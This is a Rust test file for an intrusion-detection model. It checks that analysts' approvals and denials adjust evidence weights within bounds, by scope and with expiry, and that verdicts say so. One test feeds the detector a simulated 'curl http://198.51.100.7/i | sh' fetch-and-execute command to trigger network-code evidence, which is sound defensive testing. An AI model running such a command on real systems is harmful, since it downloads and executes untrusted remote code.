//! What people decided moves what evidence weighs, so far and no further, and every verdict says so.
#![allow(clippy::indexing_slicing, clippy::unwrap_used, reason = "a test's own indices")]

use super::{
    PUBLIC,
    decisions::{answer, denied, image, last, quiet, revoke},
    scene::Scene,
    stories::stories,
    world::{REPOSITORY, World},
};
use plumbline_model::{
    Decision, DecisionKind, EVIDENCE, EvidenceItem, Incident, Scope, Verdict, event::ProcessFlags,
    feedback_rows,
};
use std::sync::{Arc, LazyLock};

/// A world that has been learned.
fn learned() -> World {
    static LEARNED: LazyLock<World> = LazyLock::new(World::learned);
    LEARNED.clone()
}

/// What people said of so many other alerts that had all rows there are.
fn said(kind: DecisionKind, alerts: usize, scope: &Scope) -> Vec<Arc<Decision>> {
    let mut world = learned();
    let helper = world.session(0, "/usr/bin/elsewhere", &["elsewhere"], 0);
    world.exec(helper);
    let alert = last(&world);
    let of = |number: usize| {
        let alert = Incident { id: format!("{kind:?}-{number}"), ..alert.clone() };
        answer(kind, &alert, scope.clone(), 0).into_iter().map(|decision| {
            let rows = feedback_rows(EVIDENCE.iter().map(|row| row.name));
            Arc::new(Decision { rows, ..(*decision).clone() })
        })
    };
    (0..alerts).flat_map(of).collect()
}

/// A program that was dropped connects out.
fn dropped(world: &mut World) -> Incident {
    let server = world.serve(0);
    let dropped = world.spawn(server, "/tmp/x", &["/tmp/x"], ProcessFlags::UPPER_LAYER);
    world.exec(dropped);
    world.act(dropped, PUBLIC);
    last(world)
}

fn attack_weight(incident: &Incident) -> f64 {
    incident.features()[2]
}

#[test]
fn after_approvals_the_same_evidence_weighs_less_and_says_by_whose_word() {
    let before = dropped(&mut learned());
    let mut world = learned();
    world.decide(&said(DecisionKind::Approve, 4, &image()));
    let after = dropped(&mut world);
    assert!((attack_weight(&after) / attack_weight(&before) - 0.8).abs() < 1e-9);
    let item = |incident: &Incident| {
        let name = "executable_written_after_build";
        incident.evidence.iter().find(|item| item.name == name).unwrap().clone()
    };
    let fact = |incident: &Incident| item(incident).fact;
    assert_eq!(fact(&before), "/tmp/x is not part of the image");
    let (now, fitted) = (item(&after).attack_weight, item(&before).attack_weight);
    assert_eq!(
        fact(&after),
        format!("/tmp/x is not part of the image (weighs {now:.2} instead of {fitted:.2} after 4 approvals)")
    );
    world.decide(&said(DecisionKind::Deny, 1, &image()));
    quiet(&mut world);
    let raised = dropped(&mut world);
    assert!(fact(&raised).contains("after 4 approvals and 1 denial)"), "{}", fact(&raised));
    assert!(attack_weight(&raised) > attack_weight(&after));
}

#[test]
fn denials_let_the_same_evidence_weigh_more_and_never_past_the_bound() {
    let before = dropped(&mut learned());
    let after = |alerts| {
        let mut world = learned();
        world.decide(&said(DecisionKind::Deny, alerts, &Scope::All));
        attack_weight(&dropped(&mut world)) / attack_weight(&before)
    };
    assert!((after(1) - 1.05).abs() < 1e-9);
    assert!((after(40) - 1.25).abs() < 1e-9);
}

#[test]
fn an_answer_to_one_alert_counts_in_the_next_until_it_expires() {
    const HOUR_NS: u64 = 3_600_000_000_000;
    let judged = |answered: Option<(DecisionKind, u64)>| {
        let mut world = learned();
        let first = dropped(&mut world);
        if let Some((kind, lasts_ns)) = answered {
            world.decide(&answer(kind, &first, image(), world.now_ns + lasts_ns));
        }
        (0..100).for_each(|_| world.close_windows(false));
        let server = world.serve(1);
        let other = world.spawn(server, "/tmp/y", &["/tmp/y"], ProcessFlags::UPPER_LAYER);
        world.exec(other);
        let moved = world.model.moved(world.model.image(REPOSITORY, world.digest).unwrap());
        (last(&world), moved.iter().map(|(_, rows)| rows.len()).sum::<usize>())
    };
    let (untouched, _) = judged(None);
    for (kind, words) in
        [(DecisionKind::Approve, "after 1 approval)"), (DecisionKind::Deny, "after 1 denial)")]
    {
        let (alert, moved) = judged(Some((kind, 2 * HOUR_NS)));
        let row = "executable_written_after_build";
        let item = alert.evidence.iter().find(|item| item.name == row).unwrap();
        assert!(item.fact.ends_with(words), "{}", item.fact);
        assert!(moved >= 3, "all rows of the alert are moved");
        assert_eq!(judged(Some((kind, HOUR_NS))), (untouched.clone(), 0), "{kind:?} counts for ever");
    }
}

#[test]
fn decisions_that_are_revoked_or_let_go_of_leave_no_trace_in_what_comes_then() {
    let weights = |alert: &Incident| {
        let of = |item: &EvidenceItem| (item.fact.clone(), item.drift_weight, item.attack_weight);
        alert.evidence.iter().map(of).collect::<Vec<_>>()
    };
    let untouched = dropped(&mut learned());
    for kind in [DecisionKind::Approve, DecisionKind::Deny] {
        let decisions = said(kind, 7, &Scope::All);
        let mut world = learned();
        world.decide(&decisions);
        world.decide(&revoke(&decisions, world.now_ns));
        assert_eq!(dropped(&mut world), untouched, "{kind:?}");

        // Also where what held was remembered.
        let mut world = learned();
        world.decide(&decisions);
        assert_ne!(weights(&dropped(&mut world)), weights(&untouched), "{kind:?} moved nothing");
        quiet(&mut world);
        let mut revoked = world.clone();
        revoked.decide(&revoke(&decisions, world.now_ns));
        assert_eq!(weights(&dropped(&mut revoked)), weights(&untouched), "{kind:?} revoked");
        let mut elsewhere = World::new();
        elsewhere.now_ns = world.now_ns;
        world.model.images().cloned().for_each(|image| elsewhere.model.load(image));
        assert_eq!(weights(&dropped(&mut elsewhere)), weights(&untouched), "{kind:?} in another model");
        world.model.let_go(&decisions.iter().map(|decision| decision.id.clone()).collect::<Vec<_>>());
        assert_eq!(weights(&dropped(&mut world)), weights(&untouched), "{kind:?} let go");
    }
}

#[test]
fn what_one_team_approves_does_not_weaken_the_evidence_of_another() {
    let untouched = dropped(&mut learned());
    let judged = |scope: Scope| {
        let mut world = learned();
        world.decide(&said(DecisionKind::Approve, 5, &scope));
        dropped(&mut world)
    };
    assert_eq!(judged(Scope::Image("sha256:v2".into())), untouched);
    assert_eq!(judged(Scope::Repository("shop/cart".into())), untouched);
    for scope in [image(), Scope::Repository(REPOSITORY.into()), Scope::All] {
        assert!(attack_weight(&judged(scope)) < attack_weight(&untouched));
    }
}

#[test]
fn no_number_of_approvals_of_other_alerts_silences_an_attack() {
    let approvals = said(DecisionKind::Approve, 60, &Scope::All);
    let gravest = |incidents: Vec<Incident>| {
        incidents.into_iter().max_by(|a, b| a.probabilities.attack.total_cmp(&b.probabilities.attack))
    };
    let (mut attacks, mut clear, mut held) = (0, 0, 0);
    for (name, lines) in stories() {
        let scene = Scene::of(lines);
        let Some(before) = gravest(scene.play()) else { continue };
        if before.verdict != Verdict::Attack {
            continue;
        }
        attacks += 1;
        let after = gravest(scene.play_after(&approvals)).unwrap();
        let p = after.probabilities;
        assert!(after.verdict != Verdict::Normal && after.revision > 0, "nobody is told of: {name}, {p:?}");
        assert!(
            (p.normal + p.drift + p.attack - 1.0).abs() < 1e-9 && p.attack <= before.probabilities.attack
        );
        if before.probabilities.attack >= 0.95 {
            clear += 1;
            assert_eq!(after.verdict, Verdict::Attack, "{name}, {p:?}");
        }
        let says_so = after.caveats.iter().any(|caveat| caveat.starts_with("by the fitted weights"));
        held += usize::from(says_so);
        assert!(!says_so || (p.attack - p.normal).abs() < 1e-6, "{name}, {p:?}");
    }
    assert!(attacks >= 25 && clear >= 20 && held >= 1, "{attacks} {clear} {held}");
}

#[test]
fn an_alert_of_what_was_denied_is_told_however_often_such_alerts_are_approved() {
    let (world, denial) = denied();
    let untouched = last(&world);
    let mut world = learned();
    world.decide(&said(DecisionKind::Approve, 60, &Scope::All));
    world.decide(&denial);
    let server = world.serve(1);
    let health = world.spawn(server, "/usr/bin/health", &["health", "--port", "80"], 0);
    world.exec(health);
    let alert = last(&world);
    let weight = |incident: &Incident| {
        let item = incident.evidence.iter().find(|item| item.name == "denied_behaviour").unwrap();
        (item.drift_weight, item.attack_weight, item.fact.clone())
    };
    assert_eq!((alert.verdict, weight(&alert)), (Verdict::Attack, weight(&untouched)));
}

#[test]
fn a_restored_model_with_the_same_decisions_says_the_same() {
    let decisions = said(DecisionKind::Approve, 3, &image());
    let mut kept = learned();
    kept.decide(&decisions);
    let mut stored = kept.clone();
    let mut turned = decisions.clone();
    turned.reverse();
    stored.restore();
    stored.decide(&turned);
    assert_eq!(dropped(&mut kept), dropped(&mut stored));
    // In the middle of an incident, which keeps what was weighed before.
    stored.restore();
    stored.decide(&decisions);
    for world in [&mut kept, &mut stored] {
        let child = world.latest("x").unwrap();
        let shell = world.spawn(child, "/bin/sh", &["sh", "-c", "curl http://198.51.100.7/i | sh"], 0);
        world.exec(shell);
    }
    assert_eq!(last(&kept), last(&stored));
    assert!(last(&kept).evidence.iter().any(|item| item.name == "code_from_network"));
}
